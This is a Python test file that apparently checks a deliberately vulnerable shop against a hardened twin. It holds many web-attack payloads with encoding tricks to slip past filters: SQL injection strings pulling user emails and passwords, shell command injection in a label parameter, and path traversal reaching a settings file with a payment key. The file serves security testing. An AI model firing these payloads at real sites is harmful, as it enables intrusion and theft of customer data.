"""The planted injections, written in other ways: each works at the open shop, and none at its twin."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import pytest

PRIVATE = "maeve@threadbare.example"
VOUCHER = "' UNION SELECT 100, email FROM users WHERE id = 3 --"
CATEGORY = quote("x' UNION SELECT id, email, password, '', 0 FROM users --")
COOKIE = "0) UNION SELECT id, email, '', 'tee', 'ink', '', 0, '', '', NULL FROM users --"
ITEM = json.dumps({"product": 1, "voucher": VOUCHER})
ESCAPED = "".join(f"\\u{ord(letter):04x}" for letter in VOUCHER)

Send = Callable[[Any], Any]


def cart(body: bytes | str, kind: str = "application/json") -> Send:
    return lambda client: client.post("/api/cart", content=body, headers={"content-type": kind})


def chunked(body: str) -> Send:
    parts = [letter.encode() for letter in body]
    return lambda client: client.post("/api/cart", content=iter(parts), headers={"content-type": "application/json"})


def get(path: str, *headers: tuple[str, str]) -> Send:
    return lambda client: client.get(path, headers=list(headers))


def multipart(name: bytes, kind: str = "multipart/form-data; boundary=BB", field: str = '"name"') -> Send:
    def part(label: str, value: bytes) -> bytes:
        return f"--BB\r\nContent-Disposition: form-data; name={label}\r\n\r\n".encode() + value + b"\r\n"

    body = part(field, name) + part('"password"', b"x") + b"--BB--\r\n"
    return login(body, kind)


def login(body: bytes | str, kind: str = "application/x-www-form-urlencoded") -> Send:
    def send(client: Any) -> Any:
        client.post("/login", content=body, headers={"content-type": kind})
        return client.get("/admin")

    return send


COUNTER = "Behind the counter"
DETOURS: dict[str, tuple[Send, str]] = {
    "json in UTF-16": (cart(ITEM.encode("utf-16")), PRIVATE),
    "json in UTF-32": (cart(ITEM.encode("utf-32")), PRIVATE),
    "json with escapes": (cart('{"product":1,"voucher":"' + ESCAPED + '"}'), PRIVATE),
    "json with a name twice": (cart('{"voucher":"x",' + ITEM[1:]), PRIVATE),
    "json with NaN": (cart('{"z":NaN,' + ITEM[1:]), PRIVATE),
    "json with half a character": (cart('{"z":"\\ud800",' + ITEM[1:]), PRIVATE),
    "json in deep company": (cart('{"z":' + "[" * 400 + "]" * 400 + "," + ITEM[1:]), PRIVATE),
    "json under another type": (cart(ITEM, "application/vnd.shop+json"), PRIVATE),
    "json in small parts": (chunked(ITEM), PRIVATE),
    "form with tabs": (login("name=grace%27%09--&password=x"), COUNTER),
    "form with an open comment": (login("name=grace%27%2F*&password=x"), COUNTER),
    "form with a name twice": (login("name=a&name=grace%27+--&password=x"), COUNTER),
    "form in capitals": (login("name=grace%27+--&password=x", "Application/X-WWW-Form-URLEncoded"), COUNTER),
    "multipart": (multipart(b"grace' --"), COUNTER),
    "multipart with bare names": (multipart(b"grace' --", field="name"), COUNTER),
    "multipart with a quoted boundary": (multipart(b"grace' --", 'multipart/form-data; boundary="BB"'), COUNTER),
    "multipart in Latin-1": (multipart("grace' --é".encode("latin-1")), COUNTER),
    "query with a name twice": (get(f"/api/products?category=x&category={CATEGORY}"), PRIVATE),
    "query with an encoded name": (get(f"/api/products?%63ategory={CATEGORY}"), PRIVATE),
    "query with broken UTF-8": (get(f"/api/products?category={CATEGORY}%FF"), PRIVATE),
    "path with line breaks": (
        get("/api/orders/" + quote("0\nUNION\nSELECT id,email,password FROM users WHERE id=3")), PRIVATE,
    ),
    "cookie in a second field": (get("/", ("cookie", "a=b"), ("cookie", f"recently_viewed={COOKIE}")), PRIVATE),
    "cookie twice": (get("/", ("cookie", f"recently_viewed=1; recently_viewed={COOKIE}")), PRIVATE),
    "cookie in quotes": (get("/", ("cookie", f'recently_viewed="{COOKIE}"')), PRIVATE),
    "cookie with octal escapes": (
        get("/", ("cookie", 'recently_viewed="' + COOKIE.replace(",", "\\054") + '"')), PRIVATE,
    ),
    "cookie with backslashes": (
        get("/", ("cookie", 'recently_viewed="' + COOKIE.replace("'", "\\'") + '"')), PRIVATE,
    ),
    "shell in backquotes": (get("/shipping/label?text=" + quote("`echo 4$((1+1))7`")), "427"),
    "shell after a quote": (get("/shipping/label?text=" + quote('x"; echo "4$((1+1))7')), "427"),
    **{
        f"file {file}": (get("/invoice?file=" + quote(file)), "PAYMENT_KEY")
        for file in (
            "../settings.env", "./../settings.env", ".././settings.env", "..//settings.env", ".//../settings.env",
            "../invoices/../settings.env", "../care/.././settings.env",
        )
    },
}  # fmt: skip


@pytest.mark.parametrize("name", DETOURS)
def test_it_works_at_the_open_shop(open_shop: Any, name: str) -> None:
    send, prize = DETOURS[name]
    assert prize in send(open_shop.client).text


@pytest.mark.parametrize("name", DETOURS)
def test_it_does_not_at_the_twin(protected_shop: Any, name: str) -> None:
    send, prize = DETOURS[name]
    assert prize not in send(protected_shop.client).text
